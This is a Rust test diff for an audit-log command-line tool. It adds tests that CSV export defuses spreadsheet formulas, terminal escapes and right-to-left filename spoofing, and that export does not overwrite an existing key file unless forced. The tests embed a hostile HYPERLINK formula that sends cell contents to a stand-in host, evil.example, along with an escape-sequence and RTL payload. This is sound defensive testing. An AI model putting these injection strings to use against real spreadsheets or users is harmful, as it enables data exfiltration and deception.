@@ -356,7 +356,66 @@ fn migrate_only_one_set(db: &TestDatabase) {
     );
 }
 
+/// A visitor writes a formula into their user agent and request id, and
+/// terminal escapes and a right-to-left override besides: the CSV an
+/// investigator opens shows them as text; the JSON export stays exact.
+fn csv_exports_are_spreadsheet_safe(db: &TestDatabase) {
+    stdout(zt(db).arg("migrate"));
+    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\u{1b}[2J\u{202e}gpj.exe";
+    let event = AuditEvent::builder(Actor::Anonymous, "NEWSLETTER_SIGNUP", "newsletter")
+        .context(
+            &RequestContext::new()
+                .with_user_agent(hostile)
+                .with_request_id(zt_types::RequestId::parse("+SUM(1,2)").unwrap()),
+        )
+        .status(AuditStatus::Success)
+        .build()
+        .unwrap();
+    log(db).record(&event).unwrap();
+
+    let csv = stdout(zt(db).args(["audit", "export", "--format", "csv"]));
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[headers.iter().position(|header| header == name).unwrap()].to_owned();
+    assert!(cell("user_agent").starts_with("'=HYPERLINK("), "{}", cell("user_agent"));
+    assert!(
+        cell("user_agent").contains("\\u{001b}[2J\\u{202e}gpj.exe"),
+        "{}",
+        cell("user_agent")
+    );
+    assert_eq!(cell("request_id"), "'+SUM(1,2)");
+    assert!(!csv.contains('\u{1b}') && !csv.contains('\u{202e}'), "{csv:?}");
+
+    let json = stdout(zt(db).args(["audit", "export", "--format", "jsonl"]));
+    let exported: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
+    assert_eq!(exported["user_agent"], hostile, "JSON keeps the stored value exactly");
+}
+
+/// `export -o` never replaces a file, perhaps a key, unless asked, and
+/// creates its file readable by its owner only.
+fn export_keeps_existing_files_unless_forced(db: &TestDatabase) {
+    use std::os::unix::fs::PermissionsExt;
+    stdout(zt(db).arg("migrate"));
+    log(db).record(&event("1", "STEP", Duration::from_secs(1))).unwrap();
+    let key = db.scratch_dir().join("chain.key");
+    std::fs::write(&key, KEY_HEX).unwrap();
+    let refused = zt(db).args(["audit", "export", "-o"]).arg(&key).output().unwrap();
+    assert_eq!(refused.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&refused.stderr).contains("pass --force"));
+    assert_eq!(std::fs::read_to_string(&key).unwrap(), KEY_HEX, "the key is intact");
+
+    let out = db.scratch_dir().join("evidence.jsonl");
+    stdout(zt(db).args(["audit", "export", "-o"]).arg(&out));
+    let mode = std::fs::metadata(&out).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600, "{mode:o}");
+    stdout(zt(db).args(["audit", "export", "--force", "-o"]).arg(&key));
+    assert!(std::fs::read_to_string(&key).unwrap().contains("\"STEP\""));
+}
+
 zt_testkit::backend_tests!(
+    csv_exports_are_spreadsheet_safe,
+    export_keeps_existing_files_unless_forced,
     migrate_only_one_set,
     migrate_and_query,
     export_streams_every_row,
